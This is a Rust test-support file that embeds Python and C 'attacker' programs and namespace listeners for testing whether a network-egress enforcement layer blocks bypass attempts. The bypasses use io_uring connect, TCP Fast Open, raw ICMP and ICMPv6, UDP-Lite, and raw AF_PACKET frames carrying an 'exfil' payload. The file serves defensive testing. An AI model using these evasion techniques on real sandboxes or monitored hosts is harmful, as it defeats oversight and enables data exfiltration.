//! The programs the network evasion tests run: the attacker's clients
//! (Python with raw syscalls, and one C program compiled at test time) and
//! the listeners inside the test's namespace. Apart from the tests so that
//! each reads as the attack it performs.

/// A TCP listener in the namespace on 198.51.100.2 and .3, port 18091,
/// accepting TCP Fast Open.
pub const LISTENER: &str = r#"
import socket, sys
socks = []
for addr in ["198.51.100.2", "198.51.100.3"]:
    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_FASTOPEN, 8)
    s.bind((addr, 18091)); s.listen(8); socks.append(s)
print("ready", flush=True)
sys.stdin.read()
"#;

/// connect(2) through io_uring (IORING_OP_CONNECT), with raw syscalls and
/// no liburing: argv[1] an IPv4 address, argv[2] a port. Prints the
/// completion's result (0, or -errno).
pub const URING_CONNECT_C: &str = r#"
#include <arpa/inet.h>
#include <linux/io_uring.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	struct io_uring_params p;
	struct sockaddr_in sin;
	int ring, s;
	if (argc != 3)
		return 2;
	memset(&sin, 0, sizeof(sin));
	sin.sin_family = AF_INET;
	sin.sin_port = htons(atoi(argv[2]));
	if (inet_pton(AF_INET, argv[1], &sin.sin_addr) != 1)
		return 2;
	s = socket(AF_INET, SOCK_STREAM, 0);
	memset(&p, 0, sizeof(p));
	ring = syscall(__NR_io_uring_setup, 4, &p);
	if (s < 0 || ring < 0) {
		perror("setup");
		return 1;
	}
	size_t sq_len = p.sq_off.array + p.sq_entries * sizeof(unsigned);
	size_t cq_len = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
	size_t len = sq_len > cq_len ? sq_len : cq_len;
	char *sq = mmap(0, len, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring,
			IORING_OFF_SQ_RING);
	struct io_uring_sqe *sqes = mmap(0, p.sq_entries * sizeof(struct io_uring_sqe),
					 PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring,
					 IORING_OFF_SQES);
	if (sq == MAP_FAILED || sqes == MAP_FAILED || !(p.features & IORING_FEAT_SINGLE_MMAP)) {
		perror("mmap");
		return 1;
	}
	char *cq = sq;
	unsigned *tail = (unsigned *)(sq + p.sq_off.tail);
	unsigned mask = *(unsigned *)(sq + p.sq_off.ring_mask);
	unsigned *array = (unsigned *)(sq + p.sq_off.array);
	unsigned idx = *tail & mask;
	memset(&sqes[idx], 0, sizeof(sqes[idx]));
	sqes[idx].opcode = IORING_OP_CONNECT;
	sqes[idx].fd = s;
	sqes[idx].addr = (unsigned long)&sin;
	sqes[idx].off = sizeof(sin);
	array[idx] = idx;
	__atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
	if (syscall(__NR_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0) {
		perror("enter");
		return 1;
	}
	unsigned head = *(unsigned *)(cq + p.cq_off.head);
	unsigned cmask = *(unsigned *)(cq + p.cq_off.ring_mask);
	struct io_uring_cqe *cqes = (struct io_uring_cqe *)(cq + p.cq_off.cqes);
	printf("%d\n", cqes[head & cmask].res);
	return 0;
}
"#;

/// A TCP Fast Open connect: sendto(2) with MSG_FASTOPEN, no connect(2).
/// argv[1] address, argv[2] port; prints "ok" or the errno's name.
pub const TFO_CLIENT: &str = r#"
import errno, socket, sys
s = socket.socket()
try:
    s.sendto(b"x", socket.MSG_FASTOPEN, (sys.argv[1], int(sys.argv[2])))
    print("ok")
except OSError as e:
    print(errno.errorcode.get(e.errno, str(e.errno)))
"#;

/// Makes the sockets named in argv (family,type,protocol as numbers) and
/// prints one JSON object: "spec" -> "ok" or the errno's name.
pub const SOCKETS: &str = r#"
import errno, json, socket, sys
out = {}
for spec in sys.argv[1:]:
    fam, kind, proto = (int(x) for x in spec.split(","))
    try:
        socket.socket(fam, kind, proto).close()
        out[spec] = "ok"
    except OSError as e:
        out[spec] = errno.errorcode.get(e.errno, str(e.errno))
print(json.dumps(out))
"#;

/// Sends below the socket hooks and prints one JSON object of outcomes
/// ("ok", "reply", "no_reply" or the errno's name): raw ICMP echoes to
/// argv[1] (allowed) and argv[2] (blocked, three of them), an ICMP ping
/// socket's echo to argv[2], a raw socket connected to argv[2] then sending,
/// and a UDP-Lite socket connected to argv[2] port 18053 then sending.
pub const BELOW: &str = r#"
import errno, json, select, socket, struct, sys
ok, bad = sys.argv[1], sys.argv[2]
def csum(b):
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    s = (s >> 16) + (s & 0xffff); s += s >> 16
    return ~s & 0xffff
def echo(seq):
    h = struct.pack("!BBHHH", 8, 0, 0, 0xbee, seq) + b"beetrace"
    return struct.pack("!BBHHH", 8, 0, csum(h), 0xbee, seq) + b"beetrace"
def name(e): return errno.errorcode.get(e.errno, str(e.errno))
def replied(s):
    return "reply" if select.select([s], [], [], 2)[0] else "no_reply"
out = {}
def attempt(key, fn):
    try: out[key] = fn()
    except OSError as e: out[key] = name(e)
def raw_echo(dst, n):
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    for i in range(n): s.sendto(echo(i), (dst, 0))
    return replied(s)
def ping_echo(dst):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    s.sendto(echo(1), (dst, 0))
    return replied(s)
def connected(kind, proto, port, payload):
    s = socket.socket(socket.AF_INET, kind, proto)
    s.connect((bad, port))
    try: s.send(payload); sent = "ok"
    except OSError as e: sent = name(e)
    return "connect:ok send:" + sent
attempt("raw_allowed", lambda: raw_echo(ok, 1))
attempt("raw_blocked", lambda: raw_echo(bad, 3))
attempt("ping_blocked", lambda: ping_echo(bad))
attempt("raw_connect", lambda: connected(socket.SOCK_RAW, socket.IPPROTO_ICMP, 0, echo(7)))
attempt("udplite_connect", lambda: connected(socket.SOCK_DGRAM, 136, 18053, b"x"))
print(json.dumps(out))
"#;

/// Counts the UDP datagrams that reach each "address:port" in argv, inside
/// the namespace, and carry a test payload ("exfil" or "inner": not the
/// kernel's own neighbour discovery through a tunnel); prints "ready", and
/// at the end of its stdin one JSON object of counts.
pub const COUNTER: &str = r#"
import json, select, socket, sys
socks = {}
for spec in sys.argv[1:]:
    a, p = spec.rsplit(":", 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind((a, int(p))); socks[s] = spec
counts = {spec: 0 for spec in socks.values()}
print("ready", flush=True)
while True:
    r, _, _ = select.select(list(socks) + [sys.stdin], [], [])
    if sys.stdin in r and not sys.stdin.readline():
        break
    for s in r:
        if s in socks:
            d = s.recv(65536)
            if b"exfil" in d or b"inner" in d:
                counts[socks[s]] += 1
print(json.dumps(counts), flush=True)
"#;

/// Writes whole Ethernet frames with an AF_PACKET socket bound to argv[1]:
/// IPv4/UDP from 198.51.100.1 to argv[3] port 18053, to MAC argv[2], three
/// times for each destination in argv[3:]. Prints the sends' outcomes.
pub const PACKET_SENDER: &str = r#"
import errno, json, socket, struct, sys
dev, dmac = sys.argv[1], bytes.fromhex(sys.argv[2].replace(":", ""))
smac = bytes.fromhex(open(f"/sys/class/net/{dev}/address").read().strip().replace(":", ""))
def csum(b):
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    s = (s >> 16) + (s & 0xffff); s += s >> 16
    return ~s & 0xffff
# argv[3]: the protocol the socket is made and bound with (0: the kernel
# reads it from each frame; any other is what the skb carries, whatever
# the frame's own EtherType says).
proto = int(sys.argv[3], 16)
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(proto))
s.bind((dev, proto))
out = {}
for dst in sys.argv[4:]:
    udp = struct.pack("!HHHH", 40000, 18053, 13, 0) + b"exfil"
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0,
                     socket.inet_aton("198.51.100.1"), socket.inet_aton(dst))
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    res = []
    for _ in range(3):
        try: s.send(dmac + smac + b"\x08\x00" + ip + udp); res.append("ok")
        except OSError as e: res.append(errno.errorcode.get(e.errno, str(e.errno)))
    out[dst] = res
print(json.dumps(out))
"#;

pub const UDP_SENDER: &str = r#"
import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for dst in sys.argv[1:]:
    for _ in range(3):
        try: s.sendto(b"inner", (dst, 18000))
        except OSError: pass
"#;

/// Raw ICMPv6 echoes (the kernel fills in the checksum) to argv[1] and,
/// twice, argv[2]; prints {"allowed": .., "blocked": ..}.
pub const RAW6: &str = r#"
import errno, json, select, socket, struct, sys
def echo(dst, n):
    s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
    try:
        for i in range(n): s.sendto(struct.pack("!BBHHH", 128, 0, 0, 0xbee, i) + b"beetrace", (dst, 0))
    except OSError as e:
        return errno.errorcode.get(e.errno, str(e.errno))
    return "reply" if select.select([s], [], [], 2)[0] else "no_reply"
print(json.dumps({"allowed": echo(sys.argv[1], 1), "blocked": echo(sys.argv[2], 2)}))
"#;

/// A TCP listener in the namespace on [2001:db8:b7::2]:18092.
pub const LISTENER6: &str = r#"
import socket, sys
s = socket.socket(socket.AF_INET6); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("2001:db8:b7::2", 18092)); s.listen(8)
print("ready", flush=True)
sys.stdin.read()
"#;
